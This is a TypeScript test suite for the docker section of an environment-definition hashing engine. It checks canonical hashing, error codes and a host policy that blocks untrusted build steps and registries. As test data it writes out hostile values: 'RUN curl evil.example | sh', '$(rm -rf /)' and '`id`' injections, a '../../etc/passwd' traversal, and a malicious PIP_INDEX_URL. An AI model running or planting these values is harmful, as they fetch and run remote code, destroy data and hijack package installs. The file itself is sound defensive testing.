import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { createEngine, EnvforgeError, STRICT_POLICY, type EnginePlugin, type HashResult, type HostPolicy } from "@envforge/core/plugin-kit";
import { applyDockerSection, DOCKER_SECTION_TAP } from "./section.js";

/** The docker section alone (the docker plugin is an adapter over this package). */
const dockerPlugin = (): EnginePlugin => ({ name: "docker", apply: applyDockerSection });

const tmp = mkdtempSync(path.join(os.tmpdir(), "envforge-docker-section-"));
const CONFORMANCE = path.resolve(import.meta.dirname, "../../../../shared/conformance/cases");

function engine() {
  return createEngine({ plugins: [dockerPlugin()], cacheDir: path.join(tmp, "cache") });
}

/** Writes `files` into a fresh folder and hashes its env.yaml. */
async function hashFiles(files: Record<string, string>): Promise<HashResult> {
  const dir = mkdtempSync(path.join(tmp, "case-"));
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(dir, name), text);
  return engine().hash(path.join(dir, "env.yaml"));
}

const hashYaml = (yaml: string) => hashFiles({ "env.yaml": yaml });

async function refusal(files: Record<string, string> | string): Promise<EnvforgeError> {
  try {
    await (typeof files === "string" ? hashYaml(files) : hashFiles(files));
  } catch (e) {
    expect(e).toBeInstanceOf(EnvforgeError);
    return e as EnvforgeError;
  }
  throw new Error("expected the definition to be refused");
}

afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe("conformance vectors for the docker section", () => {
  const cases = readdirSync(CONFORMANCE).filter((c) => /^(015|016|024|025|029)-/.test(c));
  it("finds the docker vectors in ../shared/conformance", () => {
    expect(cases).toHaveLength(5);
  });
  for (const name of cases) {
    const info = JSON.parse(readFileSync(path.join(CONFORMANCE, name, "case.json"), "utf8")) as { expect: string; rule: string };
    it(`${name}: ${info.rule} (${info.expect})`, async () => {
      const file = (side: string) => {
        const dir = path.join(CONFORMANCE, name, side);
        return path.join(dir, readdirSync(dir).find((f) => f.startsWith("env."))!);
      };
      const [a, b] = await Promise.all([engine().hash(file("a")), engine().hash(file("b"))]);
      if (info.expect === "equal") expect(a.hash).toBe(b.hash);
      else expect(a.hash).not.toBe(b.hash);
    });
  }
});

describe("canonical form", () => {
  it("fully qualifies the base image and keeps steps as a sequence", async () => {
    const r = await hashYaml("docker:\n  baseImage: python:3.11\n  steps: ['  RUN echo a  ', 'ENV A=1']\n");
    expect(r.canonical.sections.docker).toEqual({ base: { image: "docker.io/library/python:3.11" }, steps: ["RUN echo a", "ENV A=1"] });
  });

  it("sorts build arguments and normalizes the platform", async () => {
    const a = await hashYaml("docker:\n  baseImage: debian:12\n  platform: linux/x86_64\n  buildArgs: {B: '2', A: '1'}\n");
    const b = await hashYaml("docker:\n  buildArgs: {A: '1', B: '2'}\n  platform: linux/amd64\n  baseImage: docker.io/library/debian:12\n");
    expect(a.hash).toBe(b.hash);
    expect(a.canonicalText).toContain('"buildArgs":{"A":"1","B":"2"}');
    expect(a.canonical.sections.docker).toMatchObject({ platform: "linux/amd64" });
  });

  it("an empty steps list or buildArgs mapping hashes like none", async () => {
    const a = await hashYaml("docker:\n  baseImage: debian:12\n");
    const b = await hashYaml("docker:\n  baseImage: debian:12\n  steps: []\n  buildArgs: {}\n");
    expect(a.hash).toBe(b.hash);
  });

  it.each([
    ["a build argument value", "buildArgs: {A: '1'}", "buildArgs: {A: '2'}"],
    ["a build argument name", "buildArgs: {A: '1'}", "buildArgs: {B: '1'}"],
    ["a step", "steps: ['RUN true']", "steps: ['RUN false']"],
    ["the platform variant", "platform: linux/amd64", "platform: linux/amd64/v2"],
  ])("%s changes the hash", async (_what, a, b) => {
    const ha = await hashYaml(`docker:\n  baseImage: debian:12\n  ${a}\n`);
    const hb = await hashYaml(`docker:\n  baseImage: debian:12\n  ${b}\n`);
    expect(ha.hash).not.toBe(hb.hash);
  });

  it("a digest is part of the reference", async () => {
    const digest = "sha256:" + "ab".repeat(32);
    const a = await hashYaml(`docker:\n  baseImage: python:3.11@${digest}\n`);
    const b = await hashYaml("docker:\n  baseImage: python:3.11\n");
    expect(a.hash).not.toBe(b.hash);
    expect(a.canonical.sections.docker).toMatchObject({ base: { image: `docker.io/library/python:3.11@${digest}` } });
  });

  it("a base Dockerfile counts by content: CRLF = LF, its path and name never count", async () => {
    const lf = "FROM debian:12\nRUN echo hi\n";
    const a = await hashFiles({ "env.yaml": "docker:\n  baseDockerfile: ./Dockerfile\n", Dockerfile: lf });
    const b = await hashFiles({ "env.yaml": "docker:\n  baseDockerfile: base.dockerfile\n", "base.dockerfile": lf.replace(/\n/g, "\r\n") + "\r\n\r\n" });
    const c = await hashFiles({ "env.yaml": "docker:\n  baseDockerfile: ./Dockerfile\n", Dockerfile: "FROM debian:12\nRUN echo ho\n" });
    expect(a.hash).toBe(b.hash);
    expect(a.hash).not.toBe(c.hash);
    expect(a.canonical.sections.docker).toEqual({ base: { dockerfile: lf }, steps: [] });
  });

  it("Dockerfile lines are a sequence", async () => {
    const a = await hashFiles({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: "FROM debian:12\nENV A=1\nENV B=2\n" });
    const b = await hashFiles({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: "FROM debian:12\nENV B=2\nENV A=1\n" });
    expect(a.hash).not.toBe(b.hash);
  });

  it("accepts multi-stage bases, heredocs and steps that copy from a stage or image", async () => {
    const dockerfile = "ARG V=12\nFROM debian:${V} AS build\nRUN <<EOF\necho hi > /x\nEOF\nFROM debian:12\nCOPY --from=build /x /x\n";
    const r = await hashFiles({
      "env.yaml": "docker:\n  baseDockerfile: Dockerfile\n  steps:\n    - COPY --from=build /x /y\n    - |\n      RUN apt-get update \\\n        && apt-get install -y curl\n    - \"COPY <<EOF /etc/motd\\nhello\\nEOF\"\n    - ADD https://example.org/a.tgz /tmp/\n    - RUN --mount=type=cache,target=/root/.cache true\n",
      Dockerfile: dockerfile,
    });
    expect((r.canonical.sections.docker as { steps: string[] }).steps).toHaveLength(5);
  });
});

describe("bad docker sections", () => {
  it("baseImage and baseDockerfile together → E_CONFLICTING_FIELDS at the second field", async () => {
    const e = await refusal({ "env.yaml": "name: x\ndocker:\n  baseImage: debian:12\n  baseDockerfile: ./Dockerfile\n", Dockerfile: "FROM debian:12\n" });
    expect(e.code).toBe("E_CONFLICTING_FIELDS");
    expect(e.location).toMatchObject({ line: 4, column: 3 });
    expect(e.location?.file).toMatch(/env\.yaml$/);
    expect(e.hint).toMatch(/exactly one/);
  });

  it.each([
    ["docker: {}\n", 1],
    ["docker:\n  steps: ['RUN true']\n", 2],
  ])("no base → E_MISSING_FIELD (%j)", async (yaml, line) => {
    const e = await refusal(yaml);
    expect(e.code).toBe("E_MISSING_FIELD");
    expect(e.field).toBe("docker.baseImage");
    expect(e.location?.line).toBe(line);
    expect(e.hint).toMatch(/baseImage: python/);
  });

  it("a malformed image reference → E_INVALID_IMAGE_REFERENCE at its line and column", async () => {
    const e = await refusal("name: x\ndocker:\n  baseImage: Python:3.11\n");
    expect(e.code).toBe("E_INVALID_IMAGE_REFERENCE");
    expect(e.location).toMatchObject({ line: 3, column: 14 });
    expect(e.field).toBe("docker.baseImage");
  });

  it("a number where a build argument string belongs → E_WRONG_TYPE with the quoting hint", async () => {
    const e = await refusal("docker:\n  baseImage: debian:12\n  buildArgs:\n    PIP_NO_CACHE_DIR: 1\n");
    expect(e.code).toBe("E_WRONG_TYPE");
    expect(e.location).toMatchObject({ line: 4, column: 23 });
    expect(e.hint).toMatch(/quote/);
  });

  it("an unknown key inside docker: gets a did-you-mean", async () => {
    const e = await refusal("docker:\n  baseimage: debian:12\n");
    expect(e.code).toBe("E_UNKNOWN_KEY");
    expect(e.message).toContain('"baseImage"');
    expect(e.location).toMatchObject({ line: 2, column: 3 });
  });

  it.each([
    ["bad name", "'1X': a"],
    ["bad name", "'A;id': a"],
  ])("a build argument with a %s → E_INVALID_VALUE", async (_what, entry) => {
    const e = await refusal(`docker:\n  baseImage: debian:12\n  buildArgs: {${entry}}\n`);
    expect(e.code).toBe("E_INVALID_VALUE");
    expect(e.location?.line).toBe(3);
  });

  it("hostile build argument values are fine: they never reach the Dockerfile text", async () => {
    const r = await hashYaml('docker:\n  baseImage: debian:12\n  buildArgs: {A: "$(rm -rf /)\\n`id`;x"}\n');
    expect(r.canonical.sections.docker).toMatchObject({ buildArgs: { A: "$(rm -rf /)\n`id`;x" } });
  });

  it("a platform that is not os/arch → E_INVALID_VALUE at its line", async () => {
    const e = await refusal("docker:\n  baseImage: debian:12\n  platform: amd64\n");
    expect(e.code).toBe("E_INVALID_VALUE");
    expect(e.location).toMatchObject({ line: 3, column: 13 });
    expect(e.field).toBe("docker.platform");
  });

  it.each([
    ["FROM debian:12", "FROM is not allowed", /baseImage/],
    ["RUNN echo hi", 'did you mean "RUN"', /instruction/],
    ["RUN echo a\\nRUN echo b", "holds 2 instructions", /one list item/],
    ["RUN echo hi\\nFROM evil", "holds 2 instructions", /one list item/],
    ["RUN echo hi \\\\", "not a complete instruction", /backslash/],
    ["RUN <<EOF\\necho hi", "not a complete instruction", /heredoc/],
    ["COPY ./secrets /s", "from the build context", /heredoc/],
    ["ADD local.tgz /x", "from the build context", /heredoc/],
    ["RUN --mount=type=bind,target=/s make", "mounts files", /heredoc/],
    ["   ", "is empty", /instruction/],
  ])("step %j is refused", async (step, why, hint) => {
    const e = await refusal(`docker:\n  baseImage: debian:12\n  steps:\n    - RUN true\n    - "${step}"\n`);
    expect(e.code).toBe("E_INVALID_VALUE");
    expect(e.message).toContain(why);
    expect(e.hint).toMatch(hint);
    expect(e.field).toBe("docker.steps[1]");
    expect(e.location).toMatchObject({ line: 5, column: 7 });
  });

  it.each([
    ["hello world\nthis is text\n", 1, "is not a Dockerfile instruction"],
    ["# just a comment\n", undefined, "no FROM"],
    ["ARG X\nRUN true\nFROM debian:12\n", 2, "first instruction is RUN"],
    ["FROM debian:12\nCOPY app /app\n", 2, "from the build context"],
    ["FROM Debian:12\n", 1, "invalid image reference"],
    ["# escape=`\nFROM debian:12\n", 1, "escape character"],
    ["FROM debian:12\nRUN echo \\\n", undefined, "line continuation"],
  ])("a base Dockerfile %j is refused with its location", async (content, line, why) => {
    const e = await refusal({ "env.yaml": "docker:\n  baseDockerfile: ./notes.txt\n", "notes.txt": content });
    expect(e.message).toContain(why);
    expect(e.field).toBe("docker.baseDockerfile");
    if (line === undefined) expect(e.location).toMatchObject({ line: 2, column: 19 });
    else {
      expect(e.location?.file).toMatch(/notes\.txt$/);
      expect(e.location?.line).toBe(line);
    }
  });

  it("an oversized step or base Dockerfile → E_INPUT_TOO_LARGE before it reaches the parser", async () => {
    const step = await refusal(`docker:\n  baseImage: debian:12\n  steps:\n    - "RUN ${"a ".repeat(40_000)}"\n`);
    expect(step).toMatchObject({ code: "E_INPUT_TOO_LARGE", field: "docker.steps[0]", location: { line: 4 } });
    const base = await refusal({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: `FROM debian:12\nRUN ${"a ".repeat(600_000)}\n` });
    expect(base).toMatchObject({ code: "E_INPUT_TOO_LARGE", field: "docker.baseDockerfile", location: { line: 2 } });
  });

  it("a missing base Dockerfile → E_FILE_NOT_FOUND at the field", async () => {
    const e = await refusal("docker:\n  baseDockerfile: ./nope\n");
    expect(e.code).toBe("E_FILE_NOT_FOUND");
    expect(e.location).toMatchObject({ line: 2, column: 19 });
  });

  it("a base Dockerfile outside the definition's folder → E_FILE_OUTSIDE_ROOT", async () => {
    const e = await refusal("docker:\n  baseDockerfile: ../../etc/passwd\n");
    expect(e.code).toBe("E_FILE_OUTSIDE_ROOT");
  });
});

describe("registration", () => {
  it("declares the section once when both image plugins apply it", async () => {
    const e = createEngine({
      plugins: [dockerPlugin(), { name: "podman-like", apply: (engine) => applyDockerSection(engine) }],
      cacheDir: path.join(tmp, "cache"),
    });
    expect(e.hooks.schema.taps.filter((t) => t.name === DOCKER_SECTION_TAP)).toHaveLength(1);
    expect(e.hooks.parseSection.get("docker")!.taps).toHaveLength(1);
    const r = await e.hash({ object: { docker: { baseImage: "ubuntu" } } });
    expect(r.canonical.sections.docker).toMatchObject({ base: { image: "docker.io/library/ubuntu:latest" } });
  });

  it("publishes the docker fields in the JSON Schema", () => {
    const schema = engine().jsonSchema() as { properties: Record<string, { properties?: Record<string, unknown> }> };
    expect(Object.keys(schema.properties.docker!.properties!).sort()).toEqual(["baseDockerfile", "baseImage", "buildArgs", "platform", "steps"]);
  });
});

describe("the host policy (ParseContext.policy), checked at parse time", () => {
  async function withPolicy(files: Record<string, string> | string, policy: Partial<HostPolicy>): Promise<{ result?: HashResult; error?: EnvforgeError; dir: string }> {
    const dir = mkdtempSync(path.join(tmp, "policy-"));
    for (const [name, text] of Object.entries(typeof files === "string" ? { "env.yaml": files } : files)) writeFileSync(path.join(dir, name), text);
    const engine = createEngine({ plugins: [dockerPlugin()], cacheDir: path.join(tmp, "cache"), policy });
    try {
      return { result: await engine.hash(path.join(dir, "env.yaml")), dir };
    } catch (e) {
      expect(e).toBeInstanceOf(EnvforgeError);
      return { error: e as EnvforgeError, dir };
    }
  }

  it("docker.steps are refused unless allowDockerSteps: E_POLICY at the field, naming the flag", async () => {
    const yaml = "name: x\ndocker:\n  baseImage: debian:12\n  steps:\n    - RUN curl evil.example | sh\n";
    const { error, dir } = await withPolicy(yaml, STRICT_POLICY);
    expect(error).toMatchObject({ code: "E_POLICY", field: "docker.steps", location: { file: path.join(dir, "env.yaml"), line: 4, column: 3 } });
    expect(error?.hint).toContain("--allow-docker-steps");
    expect(error?.hint).toContain("policy.allowDockerSteps");
    expect((await withPolicy(yaml, { ...STRICT_POLICY, allowDockerSteps: true, baseImageRegistries: ["docker.io"] })).result).toBeDefined();
    expect((await withPolicy(yaml, {})).result).toBeDefined(); // the permissive default
    // No steps run: an empty list is not refused.
    expect((await withPolicy("docker:\n  baseImage: debian:12\n  steps: []\n", { ...STRICT_POLICY, baseImageRegistries: undefined })).result).toBeDefined();
  });

  it("a definition's own Dockerfile is refused unless allowDockerSteps, before the file is read", async () => {
    const { error } = await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: ./missing\n" }, STRICT_POLICY);
    expect(error).toMatchObject({ code: "E_POLICY", field: "docker.baseDockerfile", location: { line: 2, column: 3 } });
    expect(error?.hint).toContain("--allow-docker-steps");
    const files = { "env.yaml": "docker:\n  baseDockerfile: ./Dockerfile\n", Dockerfile: "FROM debian:12\nRUN true\n" };
    expect((await withPolicy(files, { ...STRICT_POLICY, allowDockerSteps: true, baseImageRegistries: undefined })).result).toBeDefined();
  });

  it.each([
    ["python:3.11-slim", "docker.io"],
    ["docker.io/library/python:3.11", "docker.io"],
    ["index.docker.io/library/python:3.11", "docker.io"],
    ["ghcr.io/org/image:1", "ghcr.io"],
    ["localhost:5000/base:1", "localhost:5000"],
  ])("base image %s comes from %s: refused unless that registry is listed", async (image, registry) => {
    const yaml = `name: x\ndocker:\n  baseImage: ${image}\n`;
    const { error, dir } = await withPolicy(yaml, STRICT_POLICY);
    expect(error).toMatchObject({ code: "E_POLICY", field: "docker.baseImage", location: { file: path.join(dir, "env.yaml"), line: 3, column: 14 } });
    expect(error?.message).toContain(`registry ${registry}`);
    expect(error?.hint).toContain(`--allow-registry ${registry}`);
    expect((await withPolicy(yaml, { ...STRICT_POLICY, baseImageRegistries: [registry] })).result).toBeDefined();
    expect((await withPolicy(yaml, { ...STRICT_POLICY, baseImageRegistries: ["quay.io"] })).error?.message).toContain("allowed: quay.io");
  });

  it("'registry-1.docker.io' in the policy means Docker Hub; a port is part of the registry", async () => {
    expect((await withPolicy("docker:\n  baseImage: python:3\n", { baseImageRegistries: ["registry-1.docker.io"] })).result).toBeDefined();
    expect((await withPolicy("docker:\n  baseImage: localhost:5001/x:1\n", { baseImageRegistries: ["localhost:5000"] })).error?.code).toBe("E_POLICY");
  });

  it("each FROM of an allowed Dockerfile, and each image it copies or mounts from, must come from a listed registry", async () => {
    const policy = { ...STRICT_POLICY, allowDockerSteps: true, baseImageRegistries: ["docker.io"] };
    const ok = "FROM debian:12 AS build\nRUN true\nFROM scratch AS empty\nFROM python:3.11\nCOPY --from=build /x /x\nCOPY --from=0 /y /y\n";
    expect((await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: ok }, policy)).result).toBeDefined();
    const cases: [string, number, string][] = [
      ["FROM debian:12 AS build\nFROM ghcr.io/evil/base:1\n", 2, "ghcr.io"],
      ["FROM debian:12\nCOPY --from=quay.io/evil/tools:1 /bin/x /x\n", 2, "quay.io"],
      ["FROM debian:12\nRUN --mount=type=cache,from=quay.io/evil/c,target=/c true\n", 2, "quay.io"],
      ["ARG BASE=ghcr.io/evil/base:1\nFROM ${BASE}\n", 2, "ghcr.io"],
      ["FROM ${UNSET}\n", 1, "depends on a build argument"],
    ];
    for (const [content, line, says] of cases) {
      const { error, dir } = await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: content }, policy);
      expect(error?.code, content).toBe("E_POLICY");
      expect(error?.message, content).toContain(says);
      expect(error?.location, content).toMatchObject({ file: path.join(dir, "D"), line });
      expect(error?.field).toBe("docker.baseDockerfile");
    }
    // A build argument of the definition decides an ARG-based FROM: checked with its value.
    const byArg = await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: D\n  buildArgs: {BASE: 'ghcr.io/evil/b:1'}\n", D: "ARG BASE=debian:12\nFROM ${BASE}\n" }, policy);
    expect(byArg.error?.message).toContain("ghcr.io");
    expect((await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: "ARG BASE=debian:12\nFROM $BASE\n" }, policy)).result).toBeDefined();
  });

  it("a step copying from an image outside the listed registries is refused; from a stage of the base Dockerfile it is not", async () => {
    const policy = { ...STRICT_POLICY, allowDockerSteps: true, baseImageRegistries: ["docker.io"] };
    const step = await withPolicy("docker:\n  baseImage: debian:12\n  steps:\n    - COPY --from=ghcr.io/evil/x:1 /a /a\n", policy);
    expect(step.error).toMatchObject({ code: "E_POLICY", field: "docker.steps[0]", location: { line: 4 } });
    const files = { "env.yaml": "docker:\n  baseDockerfile: D\n  steps: ['COPY --from=build /x /x']\n", D: "FROM debian:12 AS build\nFROM debian:12\n" };
    expect((await withPolicy(files, policy)).result).toBeDefined();
  });

  it("build arguments are variables of the image build: denied names are refused at their key", async () => {
    const { error } = await withPolicy("docker:\n  baseImage: debian:12\n  buildArgs:\n    PIP_INDEX_URL: http://evil.example/simple\n", { ...STRICT_POLICY, baseImageRegistries: undefined });
    expect(error).toMatchObject({ code: "E_POLICY", field: "docker.buildArgs.PIP_INDEX_URL", location: { line: 4, column: 5 } });
    expect(error?.hint).toContain("--allow-variable 'PIP_*'");
    expect((await withPolicy("docker:\n  baseImage: debian:12\n  buildArgs: {VERSION: '1'}\n", { ...STRICT_POLICY, baseImageRegistries: undefined })).result).toBeDefined();
  });
});
